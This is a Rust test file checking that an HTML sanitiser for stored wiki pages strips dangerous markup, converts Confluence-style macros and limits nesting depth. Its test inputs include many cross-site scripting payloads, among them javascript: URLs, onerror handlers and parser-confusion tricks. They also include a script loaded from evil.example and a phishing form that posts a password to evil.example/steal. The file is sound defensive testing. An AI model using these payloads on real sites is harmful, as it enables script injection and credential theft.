use super::*;

const REL: &str = "rel=\"noopener noreferrer nofollow\"";

#[test]
fn scripts_and_styles_disappear_with_their_content() {
    assert_eq!(sanitize_storage("<p>a</p><script>alert(1)</script><p>b</p>"), "<p>a</p><p>b</p>");
    assert_eq!(sanitize_storage("<style>body { display: none }</style><p>b</p>"), "<p>b</p>");
    assert_eq!(sanitize_storage("<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok"), "ok");
}

#[test]
fn event_handlers_styles_and_classes_are_stripped() {
    assert_eq!(
        sanitize_storage(
            "<p onclick=\"alert(1)\" style=\"background:url(javascript:alert(1))\" class=\"x\" id=\"y\">Click</p>"
        ),
        "<p>Click</p>"
    );
    assert_eq!(
        sanitize_storage("<a href=\"https://example.com/\" onmouseover=\"alert(1)\" target=\"_top\">x</a>"),
        format!("<a href=\"https://example.com/\" {REL}>x</a>")
    );
    assert_eq!(
        sanitize_storage("<div data-x=\"1\" title=\"t\"><span lang=\"en\">s</span></div>"),
        "<div><span>s</span></div>"
    );
}

#[test]
fn links_keep_only_web_and_mail_urls() {
    for href in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x09;script:alert(1)",
        " javascript:alert(1)",
        "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
        "vbscript:msgbox(1)",
        "/wiki/spaces/ENG",
        "//evil.example/",
        "ftp://example.com/",
    ] {
        assert_eq!(sanitize_storage(&format!("<a href=\"{href}\">x</a>")), format!("<a {REL}>x</a>"), "{href}");
    }
    assert_eq!(
        sanitize_storage("<a href=\"mailto:support@cloud.example\">mail</a>"),
        format!("<a href=\"mailto:support@cloud.example\" {REL}>mail</a>")
    );
}

#[test]
fn images_keep_only_a_web_src_and_alt() {
    assert_eq!(sanitize_storage("<img src=\"x\" onerror=\"alert(1)\" />"), "<img>");
    assert_eq!(sanitize_storage("<img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\">"), "<img>");
    assert_eq!(
        sanitize_storage("<img src=\"https://i.example/a.png\" alt=\"A\" width=\"3\" style=\"x\">"),
        "<img src=\"https://i.example/a.png\" alt=\"A\">"
    );
}

#[test]
fn embedded_documents_forms_and_svg_are_removed() {
    assert_eq!(sanitize_storage("<iframe src=\"https://evil.example/\">fallback</iframe>ok"), "ok");
    assert_eq!(sanitize_storage("<svg><script>alert('svg')</script><a href=\"x\">l</a></svg>ok"), "ok");
    assert_eq!(sanitize_storage("<math><mi><script>alert(1)</script></mi></math>ok"), "ok");
    assert_eq!(sanitize_storage("<object data=\"x.swf\"></object><embed src=\"x.swf\">ok"), "ok");
    assert_eq!(
        sanitize_storage(
            "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\" />\
             <button>Sign in again</button></form>"
        ),
        "Sign in again"
    );
    assert_eq!(sanitize_storage("<textarea>t</textarea><select><option>o</option></select>ok"), "ok");
}

#[test]
fn parser_confusion_tricks_come_out_inert() {
    // Content that means different things to different parsers: whatever ammonia's parser saw,
    // it serialises back as exactly that, without the handler.
    assert_eq!(
        sanitize_storage("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
        "<img>\"&gt;"
    );
    assert_eq!(sanitize_storage("<!-- <img src=x onerror=alert(1)> -->ok"), "ok");
    assert_eq!(sanitize_storage("<svg><![CDATA[<script>alert(1)</script>]]></svg>ok"), "ok");
    assert_eq!(sanitize_storage("<scr<![CDATA[]]>ipt>alert(1)</script>ok"), "ok");
}

#[test]
fn ordinary_content_is_kept() {
    let page = "<h2>Summary</h2><p>Sign-in failed for <strong>42 minutes</strong> &amp; <em>more</em>.</p>\
                <ul><li><p>09:12 alerts fire</p></li></ul><ol><li>one</li></ol><blockquote><p>q</p></blockquote>\
                <pre><code>a &lt; b</code></pre><hr /><p>a<br />b <b>B</b> <i>I</i> <u>U</u> <s>S</s></p>\
                <table><thead><tr><th colspan=\"2\">H</th></tr></thead><tbody><tr><td rowspan=\"1\">1</td>\
                <td>2</td></tr></tbody></table>";
    let want = "<h2>Summary</h2><p>Sign-in failed for <strong>42 minutes</strong> &amp; <em>more</em>.</p>\
                <ul><li><p>09:12 alerts fire</p></li></ul><ol><li>one</li></ol><blockquote><p>q</p></blockquote>\
                <pre tabindex=\"0\"><code>a &lt; b</code></pre><hr><p>a<br>b <b>B</b> <i>I</i> <u>U</u> <s>S</s></p>\
                <table><thead><tr><th colspan=\"2\">H</th></tr></thead><tbody><tr><td rowspan=\"1\">1</td>\
                <td>2</td></tr></tbody></table>";
    assert_eq!(sanitize_storage(page), want);
}

#[test]
fn macros_lose_their_tags_and_keep_their_text() {
    assert_eq!(
        sanitize_storage(
            "<ac:structured-macro ac:name=\"warning\" ac:schema-version=\"1\"><ac:parameter ac:name=\"title\">\
             Careful</ac:parameter><ac:rich-text-body><p>Never release on a Friday.</p></ac:rich-text-body>\
             </ac:structured-macro>"
        ),
        "<p>Never release on a Friday.</p>"
    );
    assert_eq!(
        sanitize_storage("<p>Owner: <ac:link><ri:user ri:account-id=\"712020:abc\" /></ac:link></p>"),
        "<p>Owner: </p>"
    );
    assert_eq!(
        sanitize_storage(
            "<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-status>complete</ac:task-status>\
             <ac:task-body>Get a laptop</ac:task-body></ac:task></ac:task-list>"
        ),
        "<ul><li>Get a laptop</li></ul>"
    );
}

#[test]
fn code_macro_bodies_become_escaped_preformatted_text() {
    let code = "<ac:structured-macro ac:name=\"code\"><ac:parameter ac:name=\"language\">html</ac:parameter>\
                <ac:plain-text-body><![CDATA[if a < b && c:\n  <script>alert(1)</script>]]></ac:plain-text-body>\
                </ac:structured-macro>";
    assert_eq!(
        sanitize_storage(code),
        "<pre tabindex=\"0\">if a &lt; b &amp;&amp; c:\n  &lt;script&gt;alert(1)&lt;/script&gt;</pre>"
    );
    // Unterminated: the rest is text, as an XML parser would have it.
    assert_eq!(sanitize_storage("<p>x<![CDATA[<b>y</b>"), "<p>x&lt;b&gt;y&lt;/b&gt;</p>");
}

#[test]
fn markup_nested_deeper_than_any_page_is_shown_as_text() {
    let nested =
        |depth: usize| format!("{}<b>deep</b> &amp; <i>x</i>{}", "<div>".repeat(depth), "</div>".repeat(depth));
    assert_eq!(
        sanitize_storage(&nested(MAX_NESTING - 1)),
        format!("{}<b>deep</b> &amp; <i>x</i>{}", "<div>".repeat(MAX_NESTING - 1), "</div>".repeat(MAX_NESTING - 1))
    );
    assert_eq!(sanitize_storage(&nested(MAX_NESTING)), "<p>deep&#32;&amp;amp;&#32;x</p>");
    assert_eq!(sanitize_storage(&nested(100_000)), "<p>deep&#32;&amp;amp;&#32;x</p>");
}

#[test]
fn depth_estimate_sees_through_ignored_end_tags_and_reopened_formatting() {
    // End tags that close nothing are ignored by the parser, so they must not lower the estimate.
    let bogus = "<div></nothing>".repeat(MAX_NESTING + 1);
    assert!(nesting_exceeds(&bogus, MAX_NESTING));
    // `</div>` implicitly closes the <b>s inside it, and the parser reopens them at the next text.
    let batch: String = (0..100).map(|i| format!("<b id=\"{i}\">")).collect();
    let reopened = format!("<div>{batch}</div>x").repeat(3);
    assert!(nesting_exceeds(&reopened, MAX_NESTING));
    // Ordinary siblings and self-closed void elements do not add up.
    let flat = "<p>a<br/><img src=\"x\"/></p><ul><li>b</li></ul>".repeat(10_000);
    assert!(!nesting_exceeds(&flat, MAX_NESTING));
    // Code bodies are text by the time depth is measured.
    let code = format!("<ac:plain-text-body><![CDATA[{}]]></ac:plain-text-body>", "<div>".repeat(1_000));
    assert_eq!(sanitize_storage(&code), format!("<pre tabindex=\"0\">{}</pre>", "&lt;div&gt;".repeat(1_000)));
}
